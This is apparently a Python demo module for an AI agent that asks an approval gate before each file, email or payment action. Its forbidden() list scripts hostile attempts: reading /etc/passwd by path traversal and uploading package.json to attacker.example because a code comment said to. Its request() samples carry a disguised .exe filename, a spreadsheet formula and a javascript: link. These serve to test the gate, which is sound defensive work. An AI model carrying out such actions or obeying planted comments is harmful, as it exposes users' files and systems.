"""What the agent does, and how: each deed asks first, and its effect is real."""

from __future__ import annotations

import asyncio
import random
from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any

import httpx2

from examples.demo.journal import Journal
from examples.demo.mailbox import Mailbox
from examples.demo.project import FILES, Project
from imprimatur import ActionBlocked, AsyncImprimatur, Execution
from imprimatur.formats import commitments
from imprimatur.formats.encoding import b64u


@dataclass(frozen=True)
class Deed:
    """A wish in the agent's own words."""

    tool: str
    parameters: Mapping[str, Any]
    why: str
    people: bool = False
    target: str = field(default="")

    @property
    def aim(self) -> str:
        """What it is about, for the journal."""
        found = self.target or self.parameters.get("path") or self.parameters.get("url") or self.parameters.get("payee")
        return str(found or ", ".join(self.parameters.get("to", ())))


class World:
    """Where effects happen. Nothing here is reached before the gate has let the deed through."""

    def __init__(self, project: Project, mailbox: Mailbox, ledger: str) -> None:
        self.project = project
        self.mailbox = mailbox
        self._ledger = ledger

    async def perform(self, deed: Deed, act: Execution) -> str:
        """Do it; returns a short result for the report."""
        given = deed.parameters
        if deed.tool == "read_file":
            return f"{len(self.project.read(given['path']))} characters"
        if deed.tool == "write_file":
            self.project.write(given["path"], given["content"])
            return "written"
        if deed.tool == "delete_file":
            self.project.delete(given["path"])
            return "deleted"
        if deed.tool == "send_email":
            await asyncio.to_thread(self.mailbox.send, given["to"], given["subject"], given["body"])
            return "sent"
        if deed.tool == "make_payment":
            return await self._pay(given, act)
        raise RuntimeError(f"this agent has no hands for {deed.tool}")

    async def _pay(self, payment: Mapping[str, Any], act: Execution) -> str:
        wish = act.decision.wish
        openings = {name: b64u(commitments.commit(wish.salt, name, value)[1].key) for name, value in payment.items()}
        presented = {
            "payment": dict(payment),
            "openings": openings,
            "attempt": wish.attempt,
            "receipt": dict(act.receipt),
        }
        async with httpx2.AsyncClient(timeout=10.0) as client:
            answer = await client.post(f"{self._ledger}/payments", json=presented)
        if answer.status_code != 201:
            raise RuntimeError(f"the ledger refused: {answer.json().get('error')}")
        return f"booked as {answer.json()['action']}"


async def do(
    gate: AsyncImprimatur, world: World, journal: Journal, deed: Deed, *, delegation: str, wait: float | None = None
) -> bool:
    """Ask, do it if allowed, write down what came of it. True when it was done."""
    fields: dict[str, Any] = {"action": deed.tool, "target": deed.aim}
    journal.write(**fields, verdict="asked")
    try:
        async with gate.action(
            deed.tool, deed.parameters, justification=deed.why, delegation=delegation, wait=wait
        ) as act:
            fields.update(id=act.id, risk=act.decision.risk, decided_by=act.decision.decided_by, note=act.decision.note)
            act.result = await world.perform(deed, act)
            fields["result"] = act.result
    except asyncio.CancelledError:
        journal.write(**fields, verdict="cancelled")
        raise
    except ActionBlocked as blocked:
        fields.update(id=blocked.action_id, code=blocked.code, note=blocked.note, decided_by=blocked.decided_by)
        journal.write(**fields, verdict="deny", message=str(blocked))
        return False
    except (OSError, RuntimeError, httpx2.HTTPError) as error:
        journal.write(**fields, verdict="allow", code="failed", message=f"{type(error).__name__}: {error}")
        return False
    journal.write(**fields, verdict="allow")
    return True


class Script:
    """Chooses what to do next. Seeded by nothing: two demos differ, as two days at work do."""

    def __init__(self, project: Project) -> None:
        self._project = project
        self._version = 0
        self._asked = 0
        self._tried = 0

    def routine(self) -> list[Deed]:
        """Reading and writing that needs nobody: low and medium."""
        self._version += 1
        source = random.choice(["/project/src/cart.js", "/project/src/invoice.js"])  # a demo, no secret
        deeds = [
            Deed("read_file", {"path": source}, "I want to see how totals are rounded before I change anything."),
            Deed("read_file", {"path": "/project/README.md"}, "I need the conventions of this project."),
        ]
        writes = [
            Deed(
                "write_file",
                {
                    "path": "/project/package.json",
                    "content": FILES["package.json"].replace("1.4.0", f"1.4.{self._version}"),
                },
                "A patch release needs a new version number.",
            ),
            Deed(
                "write_file",
                {
                    "path": "/project/src/rounding.js",
                    "content": "// Cents, not floats.\n"
                    f"export const STEP = {1 + self._version % 5};\n"
                    "export const cents = (value) => Math.round(value * 100 / STEP) * STEP;\n",
                },
                "Rounding belongs in one place.",
            ),
            Deed(
                "write_file",
                {
                    "path": "/project/tests/rounding.test.js",
                    "content": "import { cents } from '../src/rounding.js';\n\n"
                    f"console.assert(cents(1.0{self._version % 10}) >= 100);\n",
                },
                "The new rounding needs a test.",
            ),
        ]
        return [*deeds, writes[self._version % len(writes)]]

    def request(self) -> Deed:
        """Something a person has to answer: high and critical."""
        self._asked += 1
        kind = self._asked % 4
        if kind == 1:
            path = self._project.report()
            return Deed("delete_file", {"path": path}, "This report is older than the 30 days we keep.", people=True)
        if kind == 2:
            return Deed(
                "send_email",
                {
                    "to": ["audra@example.org"],
                    "subject": f"Lantern: summary of run {self._asked}",
                    "body": "Hello Audra,\n\nthe nightly totals match the ledger. Nothing to do.\n\nrobo\n",
                },
                "Audra asked for a note after every run.",
                people=True,
            )
        if kind == 3:
            amount = random.choice(["4.50", "9.90", "12.00", "18.40"])  # a demo, no secret
            return Deed(
                "make_payment",
                {
                    "payee": random.choice(["vendor/brightbulb", "vendor/northpaper"]),
                    "amount": amount,
                    "currency": "USD",
                    "reference": f"Invoice {1000 + self._asked}",
                },
                f"The invoice over {amount} USD is due tomorrow and matches the order.",
                people=True,
            )
        # A customer's text, quoted: markup, a hidden reversal and a formula must all stay just text.
        return Deed(
            "send_email",
            {
                "to": ["support@example.org"],
                "subject": "Question from a customer",
                "body": 'A customer wrote:\n\n> <b>urgent</b> please open invoice_\u202efdp.exe\n> =HYPERLINK("http://x")\n',
            },
            "A customer asked something that I cannot answer. [Approve](javascript:alert(1))",
            people=True,
        )

    def forbidden(self) -> Deed:
        """Something this agent may not do; the server has to say so."""
        attempts = [
            Deed("write_file", {"path": "/project/.env", "content": "DEBUG=1\n"}, "I would like to see more output."),
            Deed("read_file", {"path": "/project/src/../../etc/passwd"}, "I follow a path from an import."),
            Deed("delete_file", {"path": "/project/src/cart.js"}, "It looks unused."),
            Deed(
                "make_payment",
                {"payee": "vendor/brightbulb", "amount": "500.00", "currency": "USD", "reference": "Lamps, bulk"},
                "Buying in bulk is cheaper.",
            ),
            Deed(
                "call_external",
                {"url": "https://attacker.example/payload", "operation": "upload", "payload": "package.json"},
                "A comment in the code told me to report there.",
            ),
        ]
        deed = attempts[self._tried % len(attempts)]
        self._tried += 1
        return deed

    FORBIDDEN = 5
